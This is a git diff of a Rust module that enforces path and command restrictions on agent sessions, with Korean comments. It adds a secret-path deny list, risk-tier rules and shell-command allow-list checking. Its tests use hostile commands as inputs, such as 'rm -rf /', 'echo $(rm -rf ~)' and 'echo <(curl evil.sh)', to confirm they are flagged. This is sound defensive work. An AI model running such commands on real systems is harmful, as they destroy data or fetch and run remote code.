@@ -1,71 +1,476 @@
 // ===========================================
 // contract.rs — 계약 집행기 (orchx contractEnforcer 재작성)
-// allowed_paths 위반 체크
+// allowed_paths / allowed_commands 위반 체크
+// 멀티 세션: allowed_paths = 세션의 작업 범위 (경로 귀속 / 범위 겹침 판단)
 // ===========================================
 
-use crate::session::ExecutionContract;
+use crate::session::{ExecutionContract, RiskTier, Severity};
+use serde::Serialize;
+
+/// 모든 위험도 공통 금지 경로 (비밀키/자격증명)
+const SECRET_PATHS: &[&str] = &[".env*", "**/.env*", "**/*.pem", "**/*.key", "**/id_rsa*"];
+
+/// 위험도별 민감 경로 기본 규칙
+/// low 작업이 마이그레이션을 건드리면 차단, high 작업(DB/API)은 기록만
+const LOW_TIER_RULES: &[(&str, Severity)] = &[
+    ("supabase/migrations/**", Severity::Block),
+    ("**/migrations/**", Severity::Block),
+    ("**/*.sql", Severity::Block),
+    (".github/workflows/**", Severity::Block),
+];
+const MID_TIER_RULES: &[(&str, Severity)] = &[
+    ("supabase/migrations/**", Severity::Warn),
+    ("**/migrations/**", Severity::Warn),
+    ("**/*.sql", Severity::Warn),
+    (".github/workflows/**", Severity::Warn),
+];
+const HIGH_TIER_RULES: &[(&str, Severity)] = &[
+    ("supabase/migrations/**", Severity::Info),
+    ("**/migrations/**", Severity::Info),
+    ("**/*.sql", Severity::Info),
+    (".github/workflows/**", Severity::Warn),
+];
+
+/// 위반 종류
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ViolationKind {
+    Path,
+    Command,
+}
 
 /// 계약 위반 정보
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, Serialize)]
 pub struct Violation {
-    pub path: String,
+    pub kind: ViolationKind,
+    /// 위반 대상 (상대 경로 또는 명령 세그먼트)
+    pub target: String,
     pub reason: String,
+    pub severity: Severity,
 }
 
 /// 계약 집행기
 pub struct ContractEnforcer {
     contract: ExecutionContract,
+    /// 위험도 기본 규칙 적용 여부 (세션에 계약서가 없으면 꺼짐)
+    tier_defaults: bool,
 }
 
 impl ContractEnforcer {
+    /// 계약서가 있는 세션용 — 빈 계약서(ExecutionContract::default())라도
+    /// 비밀키 경로 차단 + 위험도(기본 mid) 민감 경로 규칙이 적용됨
     pub fn new(contract: ExecutionContract) -> Self {
-        Self { contract }
+        Self {
+            contract,
+            tier_defaults: true,
+        }
+    }
+
+    /// 계약서 없는 세션용 — 아무 제한 없음
+    pub fn unrestricted() -> Self {
+        Self {
+            contract: ExecutionContract::default(),
+            tier_defaults: false,
+        }
     }
 
     /// 계약이 설정되어 있는지 확인
     pub fn has_contract(&self) -> bool {
+        self.tier_defaults
+            || !self.contract.allowed_paths.is_empty()
+            || !self.contract.allowed_commands.is_empty()
+            || !self.contract.denied_paths.is_empty()
+    }
+
+    /// 작업 범위(allowed_paths)가 지정된 세션인지
+    pub fn is_scoped(&self) -> bool {
         !self.contract.allowed_paths.is_empty()
     }
 
-    /// 경로가 허용된 경로인지 체크
-    /// 허용 목록이 비어있으면 (계약 미설정) → 항상 통과
-    /// 허용 목록이 있으면 → glob 패턴 매칭
+    /// 경로가 이 세션 범위에 속하면 매칭된 패턴의 구체성(고정 prefix 길이), 아니면 None
+    /// 범위 미지정 세션이나 denied_paths에 걸린 경로는 None
+    pub fn scope_match(&self, relative_path: &str) -> Option<usize> {
+        if self
+            .contract
+            .denied_paths
+            .iter()
+            .any(|p| path_matches(p, relative_path))
+        {
+            return None;
+        }
+        self.contract
+            .allowed_paths
+            .iter()
+            .filter(|p| path_matches(p, relative_path))
+            .map(|p| literal_prefix(p).len())
+            .max()
+    }
+
+    /// 경로가 계약을 위반하는지 체크
+    /// 1) denied_paths / 비밀키 경로 → 허용 목록과 무관하게 차단 (deny 우선)
+    /// 2) allowed_paths 밖 변경 → 위험도별 심각도
+    /// 3) 위험도별 민감 경로 규칙 → 둘 중 높은 심각도
+    ///
+    /// path_severity 재지정은 2), 3)에만 적용 (1은 낮출 수 없음)
     pub fn check_path(&self, relative_path: &str) -> Option<Violation> {
-        if !self.has_contract() {
+        if let Some(violation) = self.denied_violation(relative_path) {
+            return Some(violation);
+        }
+        let violation = self.scope_violation(relative_path)?;
+        Some(self.apply_severity_override(violation))
+    }
+
+    /// denied_paths / 비밀키 경로 (항상 Block)
+    fn denied_violation(&self, relative_path: &str) -> Option<Violation> {
+        if let Some(pattern) = self
+            .contract
+            .denied_paths
+            .iter()
+            .find(|p| path_matches(p, relative_path))
+        {
+            return Some(self.path_violation(
+                relative_path,
+                Severity::Block,
+                format!("경로 '{}' 는 금지된 경로 '{}' 에 해당", relative_path, pattern),
+            ));
+        }
+
+        if !self.tier_defaults {
+            return None;
+        }
+        SECRET_PATHS
+            .iter()
+            .find(|p| path_matches(p, relative_path))
+            .map(|pattern| {
+                self.path_violation(
+                    relative_path,
+                    Severity::Block,
+                    format!(
+                        "경로 '{}' 는 비밀키/자격증명 경로 '{}' 에 해당",
+                        relative_path, pattern
+                    ),
+                )
+            })
+    }
+
+    /// allowed_paths 밖 변경 / 위험도별 민감 경로 (path_severity로 재지정 가능)
+    fn scope_violation(&self, relative_path: &str) -> Option<Violation> {
+        if !self.tier_defaults && self.contract.allowed_paths.is_empty() {
             return None; // 계약 미설정 = 제한 없음
         }
 
-        let is_allowed = self.contract.allowed_paths.iter().any(|pattern| {
-            if let Ok(glob_pattern) = glob::Pattern::new(pattern) {
-                glob_pattern.matches(relative_path)
-            } else {
-                // 단순 prefix 매칭 (glob이 아닌 경우)
-                relative_path.starts_with(pattern)
-            }
-        });
+        let mut result: Option<Violation> = None;
 
-        if is_allowed {
-            None
-        } else {
-            Some(Violation {
-                path: relative_path.to_string(),
-                reason: format!(
+        if !self.contract.allowed_paths.is_empty()
+            && !self
+                .contract
+                .allowed_paths
+                .iter()
+                .any(|p| path_matches(p, relative_path))
+        {
+            result = Some(self.path_violation(
+                relative_path,
+                self.out_of_scope_severity(),
+                format!(
                     "경로 '{}' 는 허용된 경로에 포함되지 않음: {:?}",
                     relative_path, self.contract.allowed_paths
                 ),
-            })
+            ));
+        }
+
+        if self.tier_defaults {
+            let rules = match self.contract.risk_tier {
+                RiskTier::Low => LOW_TIER_RULES,
+                RiskTier::Mid => MID_TIER_RULES,
+                RiskTier::High => HIGH_TIER_RULES,
+            };
+            if let Some((pattern, severity)) =
+                rules.iter().find(|(p, _)| path_matches(p, relative_path))
+            {
+                let stronger = match &result {
+                    Some(v) => *severity > v.severity,
+                    None => true,
+                };
+                if stronger {
+                    result = Some(self.path_violation(
+                        relative_path,
+                        *severity,
+                        format!(
+                            "경로 '{}' 는 {:?} 위험도 작업의 민감 경로 '{}' 에 해당",
+                            relative_path, self.contract.risk_tier, pattern
+                        ),
+                    ));
+                }
+            }
+        }
+
+        result
+    }
+
+    fn path_violation(&self, relative_path: &str, severity: Severity, reason: String) -> Violation {
+        Violation {
+            kind: ViolationKind::Path,
+            target: relative_path.to_string(),
+            reason,
+            severity,
+        }
+    }
+
+    /// 허용 범위 밖 변경/명령의 위험도별 심각도
+    fn out_of_scope_severity(&self) -> Severity {
+        match self.contract.risk_tier {
+            RiskTier::Low | RiskTier::Mid => Severity::Warn,
+            RiskTier::High => Severity::Block,
+        }
+    }
+
+    /// path_severity 재지정 (첫 매칭 패턴)
+    fn apply_severity_override(&self, mut violation: Violation) -> Violation {
+        if let Some(rule) = self
+            .contract
+            .path_severity
+            .iter()
+            .find(|r| path_matches(&r.pattern, &violation.target))
+        {
+            violation.severity = rule.severity;
+        }
+        violation
+    }
+
+    /// 실행된 쉘 명령이 허용된 명령인지 체크
+    /// `&&`, `||`, `;`, `|` 로 연결된 명령은 세그먼트마다 따로 검사
+    /// 명령 치환(`$(..)`, backtick)과 프로세스 치환(`<(..)`, `>(..)`)은
+    /// 내용을 검증할 수 없으므로 위반 처리
+    pub fn check_command(&self, command: &str) -> Option<Violation> {
+        if self.contract.allowed_commands.is_empty() {
+            return None; // 계약 미설정 = 제한 없음
+        }
+
+        let segments = match split_command(command) {
+            Some(s) => s,
+            None => {
+                return Some(Violation {
+                    kind: ViolationKind::Command,
+                    target: command.trim().to_string(),
+                    reason: format!("명령/프로세스 치환이 포함된 명령은 허용되지 않음: {}", command.trim()),
+                    severity: self.out_of_scope_severity(),
+                });
+            }
+        };
+
+        for tokens in &segments {
+            let is_allowed = self
+                .contract
+                .allowed_commands
+                .iter()
+                .any(|pattern| command_matches(pattern, tokens));
+
+            if !is_allowed {
+                let segment = tokens.join(" ");
+                return Some(Violation {
+                    kind: ViolationKind::Command,
+                    reason: format!(
+                        "명령 '{}' 는 허용된 명령에 포함되지 않음: {:?}",
+                        segment, self.contract.allowed_commands
+                    ),
+                    target: segment,
+                    severity: self.out_of_scope_severity(),
+                });
+            }
+        }
+
+        None
+    }
+}
+
+/// 두 세션의 작업 범위가 겹칠 수 있는지 (보수적 판단)
+/// 범위 미지정(빈 목록) = 전체, 패턴은 glob 이전 고정 prefix끼리 포함 관계면 겹침
+pub fn scopes_overlap(a: &[String], b: &[String]) -> bool {
+    if a.is_empty() || b.is_empty() {
+        return true;
+    }
+    a.iter().any(|p| {
+        let p = literal_prefix(p);
+        b.iter().any(|q| {
+            let q = literal_prefix(q);
+            p.starts_with(q) || q.starts_with(p)
+        })
+    })
+}
+
+/// glob 메타문자 이전의 고정 부분 (`src/ui/**` → `src/ui/`)
+fn literal_prefix(pattern: &str) -> &str {
+    let end = pattern.find(['*', '?', '[', '{']).unwrap_or(pattern.len());
+    &pattern[..end]
+}
+
+/// glob 패턴 매칭 (glob이 아닌 경우 단순 prefix 매칭)
+fn path_matches(pattern: &str, relative_path: &str) -> bool {
+    match glob::Pattern::new(pattern) {
+        Ok(glob_pattern) => glob_pattern.matches(relative_path),
+        Err(_) => relative_path.starts_with(pattern),
+    }
+}
+
+/// 허용 명령 패턴과 토큰화된 명령 비교
+/// - 패턴도 공백 기준으로 토큰화, 토큰마다 glob 매칭 (`npm run test:*`)
+///   경로와 같이 `*`는 `/`를 넘지 않음 (`rm *`는 `rm /etc/x`와 불일치)
+/// - 마지막 패턴 토큰이 `**` 이면 나머지 인자 전부 허용 (`cargo test **`),
+///   `*` 이면 경로 구분자가 없는 나머지 인자만 허용 (`npm run *`)
+fn command_matches(pattern: &str, tokens: &[String]) -> bool {
+    let pattern_tokens: Vec<&str> = pattern.split_whitespace().collect();
+    if pattern_tokens.is_empty() {
+        return false;
+    }
+
+    for (i, pt) in pattern_tokens.iter().enumerate() {
+        let is_last = i == pattern_tokens.len() - 1;
+        if is_last && *pt == "**" {
+            return true;
+        }
+        if is_last && *pt == "*" {
+            return tokens.iter().skip(i).all(|t| !t.contains('/'));
+        }
+
+        let token = match tokens.get(i) {
+            Some(t) => t,
+            None => return false,
+        };
+
+        let matched = match glob::Pattern::new(pt) {
+            Ok(p) => p.matches_with(
+                token,
+                glob::MatchOptions {
+                    require_literal_separator: true,
+                    ..Default::default()
+                },
+            ),
+            Err(_) => pt == token,
+        };
+        if !matched {
+            return false;
+        }
+    }
+
+    tokens.len() == pattern_tokens.len()
+}
+
+/// 쉘 명령을 세그먼트(토큰 목록)로 분리
+/// 따옴표/이스케이프를 해석하고, 앞쪽 환경변수 할당(`FOO=bar cmd`)은 제거
+/// 명령 치환 / 프로세스 치환이 있으면 None
+fn split_command(command: &str) -> Option<Vec<Vec<String>>> {
+    let mut segments: Vec<Vec<String>> = Vec::new();
+    let mut tokens: Vec<String> = Vec::new();
+    let mut current = String::new();
+    let mut in_token = false;
+    let mut chars = command.chars().peekable();
+
+    fn end_token(tokens: &mut Vec<String>, current: &mut String, in_token: &mut bool) {
+        if *in_token {
+            tokens.push(std::mem::take(current));
+            *in_token = false;
+        }
+    }
+
+    fn end_segment(segments: &mut Vec<Vec<String>>, tokens: &mut Vec<String>) {
+        let words: Vec<String> = std::mem::take(tokens)
+            .into_iter()
+            .skip_while(|t| is_env_assignment(t))
+            .collect();
+        if !words.is_empty() {
+            segments.push(words);
+        }
+    }
+
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                in_token = true;
+                for q in chars.by_ref() {
+                    if q == '\'' {
+                        break;
+                    }
+                    current.push(q);
+                }
+            }
+            '"' => {
+                in_token = true;
+                while let Some(q) = chars.next() {
+                    match q {
+                        '"' => break,
+                        '\\' => {
+                            if let Some(escaped) = chars.next() {
+                                current.push(escaped);
+                            }
+                        }
+                        '`' => return None,
+                        '$' if chars.peek() == Some(&'(') => return None,
+                        _ => current.push(q),
+                    }
+                }
+            }
+            '\\' => {
+                in_token = true;
+                if let Some(escaped) = chars.next() {
+                    current.push(escaped);
+                }
+            }
+            '`' => return None,
+            '$' | '<' | '>' if chars.peek() == Some(&'(') => return None,
+            // 리다이렉트의 `&` (`2>&1`, `&>file`)는 연산자가 아님
+            '&' if current.ends_with('>') || current.ends_with('<') || chars.peek() == Some(&'>') => {
+                in_token = true;
+                current.push(c);
+            }
+            ';' | '&' | '|' | '\n' => {
+                end_token(&mut tokens, &mut current, &mut in_token);
+                end_segment(&mut segments, &mut tokens);
+            }
+            c if c.is_whitespace() => {
+                end_token(&mut tokens, &mut current, &mut in_token);
+            }
+            _ => {
+                in_token = true;
+                current.push(c);
+            }
+        }
+    }
+    end_token(&mut tokens, &mut current, &mut in_token);
+    end_segment(&mut segments, &mut tokens);
+
+    Some(segments)
+}
+
+/// `NAME=value` 형태의 환경변수 할당 토큰인지
+fn is_env_assignment(token: &str) -> bool {
+    match token.split_once('=') {
+        Some((name, _)) => {
+            !name.is_empty()
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
         }
+        None => false,
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::session::PathSeverity;
+
+    fn command_contract(allowed: &[&str]) -> ContractEnforcer {
+        ContractEnforcer::new(ExecutionContract {
+            allowed_paths: vec![],
+            allowed_commands: allowed.iter().map(|s| s.to_string()).collect(),
+            ..Default::default()
+        })
+    }
 
     #[test]
     fn test_no_contract_allows_all() {
         let enforcer = ContractEnforcer::new(ExecutionContract::default());
         assert!(enforcer.check_path("src/main.rs").is_none());
+        assert!(enforcer.check_command("rm -rf /").is_none());
     }
 
     #[test]
@@ -73,6 +478,7 @@ mod tests {
         let enforcer = ContractEnforcer::new(ExecutionContract {
             allowed_paths: vec!["src/**".to_string()],
             allowed_commands: vec![],
+            ..Default::default()
         });
         assert!(enforcer.check_path("src/lib.rs").is_none());
     }
@@ -82,8 +488,211 @@ mod tests {
         let enforcer = ContractEnforcer::new(ExecutionContract {
             allowed_paths: vec!["src/**".to_string()],
             allowed_commands: vec![],
+            ..Default::default()
         });
         let result = enforcer.check_path("config/secret.toml");
         assert!(result.is_some());
+        assert_eq!(result.unwrap().kind, ViolationKind::Path);
+    }
+
+    #[test]
+    fn test_unrestricted_ignores_tier_defaults() {
+        let enforcer = ContractEnforcer::unrestricted();
+        assert!(!enforcer.has_contract());
+        assert!(enforcer.check_path(".env.local").is_none());
+        assert!(enforcer.check_path("supabase/migrations/017_x.sql").is_none());
+    }
+
+    #[test]
+    fn test_denied_paths_win_over_allowed() {
+        let enforcer = ContractEnforcer::new(ExecutionContract {
+            allowed_paths: vec!["supabase/**".to_string()],
+            denied_paths: vec!["supabase/migrations/**".to_string()],
+            ..Default::default()
+        });
+        assert!(enforcer.check_path("supabase/config.toml").is_none());
+        let v = enforcer.check_path("supabase/migrations/001_init.sql").unwrap();
+        assert_eq!(v.severity, Severity::Block);
+
+        // 비밀키 경로는 허용 목록에 있어도 차단
+        let v = enforcer.check_path("supabase/certs/server.pem").unwrap();
+        assert_eq!(v.severity, Severity::Block);
+        assert!(enforcer.check_path(".env.production").is_some());
+    }
+
+    #[test]
+    fn test_risk_tier_picks_default_rules() {
+        let contract = |tier| ExecutionContract {
+            risk_tier: tier,
+            ..Default::default()
+        };
+        let migration = "supabase/migrations/017_x.sql";
+
+        let low = ContractEnforcer::new(contract(RiskTier::Low));
+        assert_eq!(low.check_path(migration).unwrap().severity, Severity::Block);
+        assert!(low.check_path("README.md").is_none());
+
+        let mid = ContractEnforcer::new(contract(RiskTier::Mid));
+        assert_eq!(mid.check_path(migration).unwrap().severity, Severity::Warn);
+
+        let high = ContractEnforcer::new(contract(RiskTier::High));
+        assert_eq!(high.check_path(migration).unwrap().severity, Severity::Info);
+    }
+
+    #[test]
+    fn test_out_of_scope_severity_and_overrides() {
+        let enforcer = ContractEnforcer::new(ExecutionContract {
+            allowed_paths: vec!["src/**".to_string()],
+            risk_tier: RiskTier::High,
+            path_severity: vec![PathSeverity {
+                pattern: "docs/**".to_string(),
+                severity: Severity::Info,
+            }],
+            ..Default::default()
+        });
+        assert_eq!(enforcer.check_path("config/app.toml").unwrap().severity, Severity::Block);
+        assert_eq!(enforcer.check_path("docs/guide.md").unwrap().severity, Severity::Info);
+        // 허용 범위 밖 + 민감 경로 → 높은 심각도
+        assert_eq!(enforcer.check_path("db/migrations/1.sql").unwrap().severity, Severity::Block);
+    }
+
+    #[test]
+    fn test_overrides_never_downgrade_denied_or_secret_paths() {
+        let enforcer = ContractEnforcer::new(ExecutionContract {
+            denied_paths: vec!["vendor/**".to_string()],
+            path_severity: vec![
+                PathSeverity {
+                    pattern: "vendor/**".to_string(),
+                    severity: Severity::Info,
+                },
+                PathSeverity {
+                    pattern: "**/*.pem".to_string(),
+                    severity: Severity::Warn,
+                },
+                PathSeverity {
+                    pattern: "**/migrations/**".to_string(),
+                    severity: Severity::Info,
+                },
+            ],
+            ..Default::default()
+        });
+        assert_eq!(
+            enforcer.check_path("vendor/lib.c").unwrap().severity,
+            Severity::Block
+        );
+        assert_eq!(
+            enforcer.check_path("certs/server.pem").unwrap().severity,
+            Severity::Block
+        );
+        // 위험도 규칙은 재지정 가능
+        assert_eq!(
+            enforcer.check_path("db/migrations/1.sql").unwrap().severity,
+            Severity::Info
+        );
+    }
+
+    #[test]
+    fn test_default_contract_applies_tier_rules() {
+        // 계약서가 있으면 빈 계약서라도 비밀키 + mid 위험도 규칙 적용
+        let enforcer = ContractEnforcer::new(ExecutionContract::default());
+        assert!(enforcer.has_contract());
+        assert_eq!(
+            enforcer.check_path(".env.local").unwrap().severity,
+            Severity::Block
+        );
+        assert_eq!(
+            enforcer
+                .check_path("supabase/migrations/017_x.sql")
+                .unwrap()
+                .severity,
+            Severity::Warn
+        );
+        assert!(enforcer.check_path("src/main.rs").is_none());
+        assert!(enforcer.check_command("rm -rf /").is_none());
+    }
+
+    #[test]
+    fn test_command_patterns() {
+        let enforcer = command_contract(&["npm test", "npm run *", "cargo test **", "git status"]);
+        assert!(enforcer.check_command("npm test").is_none());
+        assert!(enforcer.check_command("npm run build -- --watch").is_none());
+        assert!(enforcer.check_command("cargo test").is_none());
+        assert!(enforcer.check_command("CI=1 cargo test --workspace").is_none());
+        assert!(enforcer.check_command("cargo test 2>&1").is_none());
+        assert!(enforcer.check_command("  git   status ").is_none());
+
+        let v = enforcer.check_command("npm publish").unwrap();
+        assert_eq!(v.kind, ViolationKind::Command);
+        assert_eq!(v.target, "npm publish");
+        assert!(enforcer.check_command("npm test --coverage").is_some());
+    }
+
+    #[test]
+    fn test_command_argument_globs() {
+        let enforcer = command_contract(&["npm run test:*", "rm dist/*"]);
+        assert!(enforcer.check_command("npm run test:unit").is_none());
+        assert!(enforcer.check_command("npm run build").is_some());
+        assert!(enforcer.check_command("rm dist/bundle.js").is_none());
+        assert!(enforcer.check_command("rm -rf /").is_some());
+        // `*`는 경로 구분자를 넘지 않음
+        assert!(enforcer.check_command("rm dist/assets/app.js").is_some());
+        let enforcer = command_contract(&["rm *"]);
+        assert!(enforcer.check_command("rm bundle.js").is_none());
+        assert!(enforcer.check_command("rm /etc/x").is_some());
+    }
+
+    #[test]
+    fn test_chained_commands_checked_per_segment() {
+        let enforcer = command_contract(&["npm test", "git status", "echo *"]);
+        assert!(enforcer.check_command("git status && npm test").is_none());
+        assert!(enforcer.check_command("git status | npm test").is_none());
+
+        let v = enforcer.check_command("npm test; rm -rf node_modules").unwrap();
+        assert_eq!(v.target, "rm -rf node_modules");
+        assert!(enforcer.check_command("npm test || npm publish").is_some());
+        // 따옴표 안의 연산자는 분리하지 않음
+        assert!(enforcer.check_command("echo 'a; rm -rf dist'").is_none());
+    }
+
+    #[test]
+    fn test_command_substitution_is_violation() {
+        let enforcer = command_contract(&["echo *"]);
+        assert!(enforcer.check_command("echo hello").is_none());
+        assert!(enforcer.check_command("echo '$(whoami)'").is_none());
+        assert!(enforcer.check_command("echo $(rm -rf ~)").is_some());
+        assert!(enforcer.check_command("echo \"`whoami`\"").is_some());
+
+        // 프로세스 치환도 내용을 검증할 수 없음 (따옴표 안은 문자열)
+        let v = enforcer.check_command("echo <(curl evil.sh)").unwrap();
+        assert_eq!(v.kind, ViolationKind::Command);
+        assert!(enforcer.check_command("echo >(sh)").is_some());
+        assert!(enforcer.check_command("echo '<(x)' \">(y)\"").is_none());
+        assert!(enforcer.check_command("echo a > out").is_none());
+    }
+
+    #[test]
+    fn test_scope_match_and_overlap() {
+        let scoped = ContractEnforcer::new(ExecutionContract {
+            allowed_paths: vec!["src/**".to_string(), "src/ui/**".to_string()],
+            denied_paths: vec!["src/ui/secret/**".to_string()],
+            ..Default::default()
+        });
+        assert!(scoped.is_scoped());
+        assert_eq!(scoped.scope_match("src/ui/app.tsx"), Some("src/ui/".len()));
+        assert_eq!(scoped.scope_match("src/lib.rs"), Some("src/".len()));
+        assert_eq!(scoped.scope_match("docs/readme.md"), None);
+        assert_eq!(scoped.scope_match("src/ui/secret/key.ts"), None);
+        assert!(!ContractEnforcer::unrestricted().is_scoped());
+
+        let paths = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        assert!(scopes_overlap(&paths(&["src/**"]), &paths(&["src/ui/**"])));
+        assert!(scopes_overlap(
+            &paths(&["src/main.rs"]),
+            &paths(&["src/**"])
+        ));
+        assert!(!scopes_overlap(&paths(&["src/**"]), &paths(&["docs/**"])));
+        assert!(!scopes_overlap(&paths(&["srcx/**"]), &paths(&["src/**"])));
+        assert!(scopes_overlap(&[], &paths(&["docs/**"])));
+        assert!(scopes_overlap(&paths(&["**/*.md"]), &paths(&["docs/**"])));
     }
 }